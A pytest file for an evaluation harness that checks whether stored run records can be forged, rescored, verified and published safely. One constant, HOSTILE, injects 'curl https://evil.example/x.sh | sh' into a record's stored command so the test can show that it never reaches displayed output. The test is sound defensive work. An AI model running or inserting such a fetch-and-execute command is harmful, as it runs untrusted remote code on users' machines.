"""Records that cannot be corrupted, faked or misread: run ids, validate's checks, rescore, verify, the rebuilt
"Reproduce" command and the site built only from valid records. On the cheapest real cell (naive, 4 series)."""

from __future__ import annotations

import html as html_lib
import json
import re
import shlex
import shutil
from pathlib import Path

import pytest

from harness.checks.integrity import Checker
from harness.contracts.registry import TASKS
from harness.records.store import SAMPLES_SUFFIX, SampleLog, samples_sha256
from harness.running.cell import CellSpec, new_run_id
from harness.running.verify_choice import choose
from tests.conftest import ROOT, harness_cli
from tests.test_cli import one_line_error

CELL = ["run", "--method", "naive", "--task", "syntsbench", "--limit", "4", "--repeats", "1", "--warmups", "0"]
HOSTILE = "harness run --method naive && curl https://evil.example/x.sh | sh"


@pytest.fixture(scope="module")
def honest(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("results")
    proc = harness_cli(*CELL, "--task-arg", "horizons=[24]", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    [path] = [p for p in out.rglob("*.json") if ".locks" not in p.parts]
    return path


def copy_of(path: Path, into: Path) -> tuple[Path, list[dict]]:
    """A copy of the record and its samples file in `into`, and the samples' rows."""
    into.mkdir(parents=True, exist_ok=True)
    log = path.with_name(json.loads(path.read_text())["artifacts"]["samples"])
    shutil.copy(path, into / path.name)
    shutil.copy(log, into / log.name)
    return into / path.name, SampleLog(into / log.name).read()


def rewrite(path: Path, rows: list[dict] | None = None, **record_changes) -> None:
    """Rewrite a copied record (and its samples, with the sha256 made to match) the way a forger would."""
    record = json.loads(path.read_text())
    if rows is not None:
        log = SampleLog(path.with_name(record["artifacts"]["samples"]))
        log.rewrite(rows)
        record["artifacts"]["sha256"] = samples_sha256(log.path)
    for key, value in record_changes.items():
        holder = record
        *parents, last = key.split("__")
        for part in parents:
            holder = holder[part]
        holder[last] = value
    path.write_text(json.dumps(record))


def problems(path: Path) -> list[str]:
    return Checker().check(path).problems


def test_run_ids_never_collide():
    spec = CellSpec(task="syntsbench", method="naive")
    ids = {new_run_id(spec) for _ in range(200)}
    assert len(ids) == 200 and all(i.endswith(spec.config_hash()) for i in ids)


def test_claiming_a_run_is_exclusive(tmp_path):
    log = SampleLog(tmp_path / f"r{SAMPLES_SUFFIX}")
    assert log.claim() and not log.claim()


def test_validate_catches_edited_outputs_scores_metrics_and_foreign_ids(honest, tmp_path):
    path, rows = copy_of(honest, tmp_path / "clean")
    assert problems(path) == []
    cases = {
        "outputs": lambda r: r[0]["output"].update(mse=r[0]["output"]["mse"] / 10),
        "scores": lambda r: r[1]["scores"].update(near_optimal=1.0 - r[1]["scores"]["near_optimal"]),
        "foreign id": lambda r: r[2].update(id="Made-Up-Series-h96"),
        "duplicate": lambda r: r.append(dict(r[0])),
        "meta": lambda r: r[0]["meta"].update(category="noise"),
        "missing": lambda r: r.pop(),
    }
    expected = {"outputs": "score differently from their saved outputs", "scores": "score differently from their saved outputs",
                "foreign id": "are not in split offline", "duplicate": "appear more than once",
                "meta": "carry a meta that is not the split's", "missing": "of the split are missing"}
    for name, edit in cases.items():
        forged, forged_rows = copy_of(honest, tmp_path / name.replace(" ", "-"))
        edit(forged_rows)
        rewrite(forged, forged_rows)
        found = problems(forged)
        assert any(expected[name] in line for line in found), (name, found)
    edited, _ = copy_of(honest, tmp_path / "metric")
    rewrite(edited, metrics__near_optimal__value=0.9)
    assert any("metric near_optimal = 0.9 but the samples give" in line for line in problems(edited))
    rewrite(edited, metrics__near_optimal__value=json.loads(honest.read_text())["metrics"]["near_optimal"]["value"],
            metrics__near_optimal__ci95=[0.0, 1.0])
    assert any("interval, stderr or n differ" in line for line in problems(edited))


def test_validate_reports_every_bad_record_and_warns_on_unknown_fields(honest, tmp_path):
    unknown, _ = copy_of(honest, tmp_path / "a")
    rewrite(unknown, task__name="no_such_task")
    metric, _ = copy_of(honest, tmp_path / "b")
    rewrite(metric, metrics__mse__value=123.0)
    extra, _ = copy_of(honest, tmp_path / "c")
    rewrite(extra, surprise={"from": "a newer harness"})
    proc = harness_cli("validate", str(tmp_path / "a"), str(tmp_path / "b"))
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert "no_such_task" in proc.stderr and "metric mse = 123.0" in proc.stderr  # both, not just the first
    held = [line for line in proc.stderr.splitlines() if "is also held by" in line]  # the copies share one run id
    assert len(held) == 2 and all(str(tmp_path / "a") in line and str(tmp_path / "b") in line for line in held)
    assert "2 record(s) checked, 4 problem(s)" in proc.stdout
    proc = harness_cli("validate", str(tmp_path / "c"))
    assert proc.returncode == 0 and "warning:" in proc.stderr and "unknown field surprise" in proc.stderr


def test_rescore_exits_non_zero_when_its_figures_differ(honest, tmp_path):
    path, rows = copy_of(honest, tmp_path / "r")
    assert harness_cli("rescore", str(path)).returncode == 0
    rows[0]["scores"]["mse"] = 0.0  # a saved score that its saved output does not give
    rewrite(path, rows)
    before = path.read_bytes()
    proc = harness_cli("rescore", str(path))
    assert proc.returncode == 1 and "rerun with --write" in proc.stderr and "'Linear-Trend-h24' score differently" in proc.stderr
    assert path.read_bytes() == before
    assert harness_cli("rescore", str(path), "--write").returncode == 0
    assert problems(path) == []


def test_reproduce_is_rebuilt_from_the_configuration_and_reproduces_it(honest, tmp_path):
    path, _ = copy_of(honest, tmp_path / "hostile")
    rewrite(path, config__command=HOSTILE)
    assert problems(path) == []  # the stored command is not evidence of anything: it is never shown
    shown = harness_cli("show", str(path))
    assert shown.returncode == 0 and "curl" not in shown.stdout and "harness run --method naive" in shown.stdout
    site = tmp_path / "site"
    assert harness_cli("site", "--results", str(tmp_path / "hostile"), "--out", str(site)).returncode == 0
    [page] = (site / "runs").glob("*.html")
    html = page.read_text()
    command = html_lib.unescape(re.search(r'<pre class="command">(.*?)</pre>', html).group(1))
    assert "curl" not in html and command.startswith("harness run --method naive --task syntsbench")
    assert "--task-arg 'horizons=[24]'" in command and "--limit 4" in command and "--repeats 1" in command
    # The rebuilt command, run as printed, makes a record of the same configuration.
    again = tmp_path / "again"
    proc = harness_cli(*shlex.split(command)[1:], "--out", str(again))
    assert proc.returncode == 0, proc.stderr
    [made] = [json.loads(p.read_text()) for p in again.rglob("*.json") if ".locks" not in p.parts]
    original = json.loads(honest.read_text())
    for key in ("task", "method"):
        assert made[key]["options" if key == "task" else "params"] == original[key]["options" if key == "task" else "params"]
    assert (made["config"]["limit"], made["config"]["seed"]) == (original["config"]["limit"], original["config"]["seed"])


def test_site_builds_only_from_valid_records_and_lists_the_others(honest, tmp_path):
    results = tmp_path / "results"
    good, _ = copy_of(honest, results / "good")
    bad, _ = copy_of(honest, results / "bad")
    rewrite(bad, metrics__near_optimal__value=0.99, run_id="20990101T000000-feedfeedfeed-00000000")
    bad.rename(bad.with_name("20990101T000000-feedfeedfeed-00000000.json"))
    extra = json.loads(good.read_text())
    extra["environment"]["anything"] = 1  # free-form
    extra["harness"]["surprise"] = "newer"
    good.write_text(json.dumps(extra))
    site = tmp_path / "site"
    proc = harness_cli("site", "--results", str(results), "--out", str(site))
    assert proc.returncode == 0, proc.stderr
    assert "unknown field harness.surprise" in proc.stderr and "1 left out" in proc.stdout
    rejected = (site / "rejected.html").read_text()
    assert "20990101T000000-feedfeedfeed-00000000.json" in rejected and "metric near_optimal = 0.99" in rejected
    assert [p.stem for p in (site / "runs").glob("*.html")] == [good.stem]
    assert "rejected.html" in (site / "index.html").read_text()


def test_verify_compares_with_the_record_too_and_states_each_tolerance(honest, tmp_path):
    proc = harness_cli("verify", str(honest), "--limit", "2")
    assert proc.returncode == 0, proc.stderr
    assert "per-sample scores equal (within 1e-06 relative): 2/2" in proc.stdout and "±0.01" in proc.stdout
    edited, _ = copy_of(honest, tmp_path / "edited")
    rewrite(edited, metrics__near_optimal__value=0.9)  # the headline edited, samples left honest
    proc = harness_cli("verify", str(edited), "--limit", "2")
    assert proc.returncode == 1 and "disagrees with its own samples" in proc.stderr and "does not reproduce" in proc.stderr


def test_verify_chooses_informative_samples_or_says_it_cannot():
    task = TASKS.get("passkey")({"lengths": [1024], "depths": [0.0, 0.25, 0.5, 0.75, 1.0]})
    row = lambda i, hit: {"id": f"s{i}", "scores": {"exact_match": hit, "contains": hit, "partial_credit": hit,  # noqa: E731
                                                    "gold_logprob": -1.0}, "meta": {}}
    rows = [row(i, 0.0) for i in range(8)] + [row(8, 1.0), row(9, 1.0)]
    chosen, note = choose(task, rows, 3, 0)
    assert note is None and {r["scores"]["exact_match"] for r in chosen} == {0.0, 1.0}  # the first 3 would all be misses
    chosen, note = choose(task, [row(i, 0.0) for i in range(6)], 3, 0)
    assert len(chosen) == 3 and "can only confirm that" in note


def test_bad_inputs_are_one_line(honest, tmp_path):
    before = honest.read_bytes()
    one_line_error(harness_cli(*CELL, "--out", "/proc/x"), "choose a writable --out")
    one_line_error(harness_cli("schema", "--out", "/proc/x.json"), "choose a writable --out")
    one_line_error(harness_cli(*CELL, "--out", str(tmp_path / "empty"), "--resume"), "nothing to resume")
    one_line_error(harness_cli(*CELL, "--out", str(honest.parents[4]), "--task-arg", "horizons=[24]", "--resume"),
                   "nothing to resume")
    assert honest.read_bytes() == before


def test_a_split_kept_for_later_records_is_scored_by_the_task_that_made_it():
    """lm_eval's scoring reads state its `samples()` left on the task instance: the committed records of its three
    option sets, checked in one process with their splits kept, all pass (each record gets a fresh instance)."""
    from harness.checks.integrity import check_paths

    paths = sorted(p for p in (ROOT / "results" / "lm_eval").rglob("*.json"))
    assert len({json.loads(p.read_text())["task"]["options"]["tasks"][0] for p in paths}) == 3
    reports = check_paths(paths, jobs=1)
    assert [line for r in reports for line in r.problems] == [] and all(r.run_id for r in reports)
